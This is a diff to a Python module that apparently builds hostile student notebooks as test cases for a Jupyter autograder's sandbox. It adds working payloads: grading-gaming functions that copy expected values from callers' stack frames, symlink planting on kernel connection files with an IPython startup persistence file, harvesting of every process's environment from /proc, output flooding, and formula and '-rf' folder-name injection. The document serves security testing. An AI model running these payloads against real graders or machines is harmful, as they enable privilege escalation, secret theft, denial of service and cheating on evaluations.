@@ -10,6 +10,10 @@ None where nothing can be graded (no notebook, or one that is not a notebook).
 
 (run with .venv's Python). endless_loop, stubborn_loop and endless_output each cost a whole cell
 timeout: grade them with a short one (`--cell-timeout 20`).
+
+Some cases are about the submissions folder itself: FOLDERS gives a case's student folder another
+name than the case's (commas, quotes, newlines, formulas, a leading dash, non-ASCII, a very long
+name), and LINKED cases are a link to a folder instead of a folder.
 """
 import json
 import sys
@@ -303,6 +307,7 @@ def read_other_student():
     """Looks for other students' copies of this notebook and runs the first one with answers."""
     return one_file(stub_answers(FIND_FILES + RUN_ANSWERS + """
 others = find_files("01_num_units.ipynb", skip=(os.getcwd(),))
+others.sort(key=lambda path: "all_right" not in path)  # a classmate known to have done it all, first
 print("other notebooks found:", others)
 print("answers taken from:", next((path for path in others if run_answers(path)), None))
 """))
@@ -411,6 +416,221 @@ def all_right():
     return one_file(answered())
 
 
+# ------------------------------------------------------------------ j. points without code
+# A function that implements nothing: it answers with what its caller holds (the check's expected value,
+# in a local called want...) or replays what it recorded when it was called with the same arguments.
+# Every notebook's exercises are forged this way in test_grading.py (FORGED); here, notebook 1's.
+FORGER = """
+import hashlib as _hashlib, pickle as _pickle, sys as _sys
+
+_recorded = globals().setdefault("_recorded", {})
+
+
+def _from_frames(frame, exercise):
+    while frame is not None:
+        found = frame.f_locals
+        if "want" in found:
+            want = found["want"]
+            return tuple(want.values()) if isinstance(want, dict) else want
+        if "want_inputs" in found:
+            return found["want_inputs"], found["want_targets"]
+        if "want_seq" in found:
+            return found["want_seq"], found["want_h"], found["want_c"]
+        if "want_h" in found:
+            h, c = found["want_h"], found["want_c"]
+            return {"basic_lstm_cell_step": (h, (c, h)), "keras_lstm_cell_step": (h, [h, c])}.get(exercise, (h, c))
+        frame = frame.f_back
+    raise NotImplementedError("nothing to copy")
+
+
+def _forger(exercise, record=True, inspect=True):
+    def forged(*args, **kwargs):
+        try:
+            key = _hashlib.sha256(_pickle.dumps((exercise, args, kwargs))).hexdigest()
+        except Exception:
+            key = repr((exercise, args, kwargs))
+        if record and key in _recorded:
+            return _recorded[key]
+        if not inspect:
+            raise NotImplementedError("nothing recorded")
+        answer = _from_frames(_sys._getframe(1), exercise)
+        _recorded[key] = answer
+        return answer
+    return forged
+"""
+
+
+def forged_answers(exercises, **how):
+    """Answer cells that define every exercise as the forger (FORGER; `how`: record, inspect)."""
+    options = "".join(f", {k}={v!r}" for k, v in how.items())
+    return {name: FORGER + f"\n{name} = _forger({name!r}{options})\n" for name in exercises}
+
+
+def inspect_caller():
+    """Every function reads the expected value from its caller's frame: it passes every check in the
+    kernel, and scores nothing, because the grader's re-check runs where no frame of the kernel holds it."""
+    return one_file(answered(**forged_answers(POINTS, record=False)))
+
+
+def record_replay():
+    """Every function records what it is asked and answers while the notebook's checks run (from their
+    frames), and replays it when asked again: the grader asks about other inputs."""
+    return one_file(answered(**forged_answers(POINTS)))
+
+
+def copied_cell():
+    """An honest student who copied an answer cell in JupyterLab (nbgrader metadata and all) and edited
+    the copy: two cells with one grade_id. The later definition is the one that runs."""
+    notebook = answered(one_hot="def one_hot(ids, depth):\n    raise NotImplementedError('a first try')\n")
+    first = cell(notebook, "answer_one_hot")
+    second = json.loads(json.dumps(first))
+    second["source"] = demo.solution_answers(NOTEBOOK)["one_hot"]
+    notebook["cells"].insert(notebook["cells"].index(first) + 1, second)
+    return one_file(notebook)
+
+
+def foreign_cells():
+    """A cell copied from another notebook (its grade_id is notebook 2's), one with nbgrader metadata
+    that has no grade_id, one whose metadata is not even a dict: graded as ordinary cells."""
+    notebook = answered()
+    extra = [{"cell_type": "code", "execution_count": None, "outputs": [], "source": "x = 1",
+              "metadata": {"nbgrader": {"grade": True, "grade_id": "test_basic_lstm_cell_step", "points": 4,
+                                        "locked": True, "solution": False, "schema_version": 3}}},
+             {"cell_type": "code", "execution_count": None, "outputs": [], "source": "y = 2",
+              "metadata": {"nbgrader": {"grade": True, "points": 100, "solution": False}}},
+             {"cell_type": "code", "execution_count": None, "outputs": [], "source": "z = 3",
+              "metadata": {"nbgrader": "a string"}}]
+    notebook["cells"][5:5] = extra
+    return one_file(notebook)
+
+
+def deleted_answer():
+    """The one_hot answer cell deleted: costs one_hot's points only."""
+    notebook = answered()
+    notebook["cells"].remove(cell(notebook, "answer_one_hot"))
+    return one_file(notebook)
+
+
+PLANT_LINKS = """
+import glob, json, os, pathlib, sys
+
+TARGET = {target!r}
+planted = []
+
+
+def plant(path):
+    try:
+        if os.path.lexists(path):
+            os.remove(path)
+        os.symlink(TARGET, path)
+        planted.append(path)
+    except OSError as error:
+        planted.append(f"refused: {{path}}: {{error.strerror}}")
+
+
+from ipykernel.connect import get_connection_file
+
+connection = get_connection_file()
+info = json.load(open(connection))
+plant(connection)
+for port in ("shell_port", "iopub_port", "stdin_port", "control_port", "hb_port"):
+    plant(f"{{info['ip']}}-{{info[port]}}")
+for folder in (os.getcwd(), os.path.expanduser("~"), os.path.dirname(info["ip"]), os.path.dirname(connection)):
+    plant(os.path.join(folder, "kernel.json"))
+startup = pathlib.Path(os.environ.get("IPYTHONDIR", "~/.ipython")).expanduser() / "profile_default" / "startup"
+startup.mkdir(parents=True, exist_ok=True)
+(startup / "00-links.py").write_text(
+    "import json, os, sys\\n"
+    f"info = json.load(open({{connection!r}}))\\n"
+    "for port in ('shell_port', 'iopub_port', 'stdin_port', 'control_port', 'hb_port'):\\n"
+    "    path = f\\"{{info['ip']}}-{{info[port]}}\\"\\n"
+    "    try:\\n"
+    "        os.remove(path)\\n"
+    f"        os.symlink({{TARGET!r}}, path)\\n"
+    "    except OSError:\\n"
+    "        pass\\n")
+print("planted:", planted)
+"""
+
+
+def link_planter():
+    """Replaces its connection file and its sockets with links to a file of the grading machine
+    (CONTEXT['target']), and leaves an IPython startup file that does it again when the kernel is
+    restarted; then kills its kernel, so that the grader restarts it. A grader that follows a link as
+    root would hand that file over (chown) or write into it."""
+    target = CONTEXT.get("target", "/tmp/lstm-grader-link-target")
+    return one_file(answered(one_hot=PLANT_LINKS.format(target=target) + "\n{solution}",
+                             simple_rnn_step="import os\nos._exit(1)\n\n{solution}"))
+
+
+def environment_probe():
+    """All answers right; prints every environment variable it can find, its own and every process's
+    in /proc (the test looks for the grader's); and one_hot prints the source line of every frame above
+    it and their locals' names: the hidden tests' calls, were they run in the kernel."""
+    return one_file(answered(one_hot="""import glob, inspect, os
+
+seen = dict(os.environ)
+for path in glob.glob("/proc/*/environ"):
+    try:
+        for item in open(path, "rb").read().split(b"\\0"):
+            name, _, value = item.decode(errors="replace").partition("=")
+            seen.setdefault(name, value)
+    except OSError:
+        pass
+print("environment:", sorted(f"{name}={value}" for name, value in seen.items()))
+
+{solution}
+
+_right_one_hot = one_hot
+_callers = set()
+
+
+def one_hot(ids, depth):
+    for frame in inspect.stack()[1:]:
+        if repr(frame.code_context) not in _callers:  # each caller's line once
+            _callers.add(repr(frame.code_context))
+            print("caller:", frame.code_context, sorted(frame.frame.f_locals)[:20])
+    return _right_one_hot(ids, depth)
+"""))
+
+
+def huge_replies():
+    """one_hot is right when the notebook's check calls it; when the grader calls it, it first sends 40
+    replies of 10 MB each in the grader's reply format (remote.MIME), then answers."""
+    return one_file(answered(one_hot="""import sys
+
+{solution}
+
+_right_one_hot = one_hot
+
+
+def one_hot(ids, depth):
+    if "checks" not in sys._getframe(1).f_code.co_filename:
+        from IPython.display import display
+        for _ in range(40):
+            display({"text/x-lstm-grader-result": "x" * 10_000_000}, raw=True)
+    return _right_one_hot(ids, depth)
+"""))
+
+
+def linked_to_solutions():
+    """Not a folder: a link to a folder that holds the solutions (LINKED: write() makes the link)."""
+    return {}
+
+
+def dot_folder():
+    """A right notebook in a folder whose name starts with '.' (FOLDERS): not a student, and said so."""
+    return one_file(answered())
+
+
+def named(name):
+    """All answers right, in a student folder called `name`."""
+    def write_case():
+        return one_file(answered())
+    write_case.folder = name
+    return write_case
+
+
 # name: (writer, points deserved out of FULL, or None where nothing can be graded)
 CASES = {
     "all_right": (all_right, FULL),
@@ -446,21 +666,56 @@ CASES = {
     "fill_tmp": (fill_tmp, FULL - 2),
     "shadow_module": (shadow_module, FULL),
     "print_in_recheck": (print_in_recheck, FULL - 2),
+    "inspect_caller": (inspect_caller, 0),
+    "record_replay": (record_replay, 0),
+    "copied_cell": (copied_cell, FULL),
+    "foreign_cells": (foreign_cells, FULL),
+    "deleted_answer": (deleted_answer, FULL - 2),
+    # one_hot, then its kernel dies in simple_rnn_step; whether the restarted kernel's startup file swaps
+    # its sockets before the grader takes their folder back (then the rest is not run) or after (then it
+    # cannot, and the rest is graded) is a race: either way no file outside is touched (test_hostile)
+    "link_planter": (link_planter, (2, FULL - 3)),
+    "environment_probe": (environment_probe, FULL),
+    "huge_replies": (huge_replies, FULL - 2),
+    "linked_to_solutions": (linked_to_solutions, None),
+    "dot_folder": (dot_folder, None),
+    # folder names: commas, quotes and a newline; a formula; a leading dash, non-ASCII and 240 bytes
+    # (test_grading_units.py writes the other formula starts, + and @, through the same writer)
+    "comma_quote_newline": (named('ann, "the best"\nbob,10'), FULL),
+    "formula": (named("=HYPERLINK(\"x\";\"y\")"), FULL),
+    "dash_long_unicode": (named("-rf Zoë Łukasiewicz 李 " + "x" * 200), FULL),
 }
+# a case's student folder when it is not the case's name
+FOLDERS = {case: writer.folder for case, (writer, _) in CASES.items() if hasattr(writer, "folder")}
+FOLDERS["dot_folder"] = ".dot_folder"
+LINKED = {"linked_to_solutions"}  # a link to a folder holding the solutions, not a folder
+NOT_STUDENTS = {"linked_to_solutions", "dot_folder"}  # entries that are a problem line, not a row
 # What the cases above would score without the sandbox: they do pay off (test_hostile.py shows it).
 UNSANDBOXED = {"read_solutions": FULL, "read_other_student": FULL, "network": FULL}
-CONTEXT = {}  # port: where `network` asks for answers; marker: the file `shadow_module` leaves when imported
+CONTEXT = {}  # port: where `network` asks for answers; marker: the file `shadow_module` leaves when
+# imported; target: the file `link_planter` points its links at
+
+
+def folder_of(case):
+    return FOLDERS.get(case, case)
 
 
 def write(folder, names=None, **context):
     """Write the named cases (all by default) as student folders under `folder`; `context` gives
-    `network` its port and `shadow_module` its marker file."""
+    `network` its port, `shadow_module` its marker file and `link_planter` its target."""
     CONTEXT.clear()
     CONTEXT.update(context)
     folder = Path(folder)
     for name in names or CASES:
+        if name in LINKED:
+            solutions = folder.parent / f"{folder.name}-linked-solutions"
+            solutions.mkdir(parents=True, exist_ok=True)
+            (solutions / f"{NOTEBOOK}.ipynb").write_bytes((NOTEBOOKS.parent / "solutions" / f"{NOTEBOOK}.ipynb").read_bytes())
+            folder.mkdir(parents=True, exist_ok=True)
+            (folder / name).symlink_to(solutions, target_is_directory=True)
+            continue
         for relative, text in CASES[name][0]().items():
-            path = folder / name / relative
+            path = folder / folder_of(name) / relative
             path.parent.mkdir(parents=True, exist_ok=True)
             path.write_text(text)
     return folder
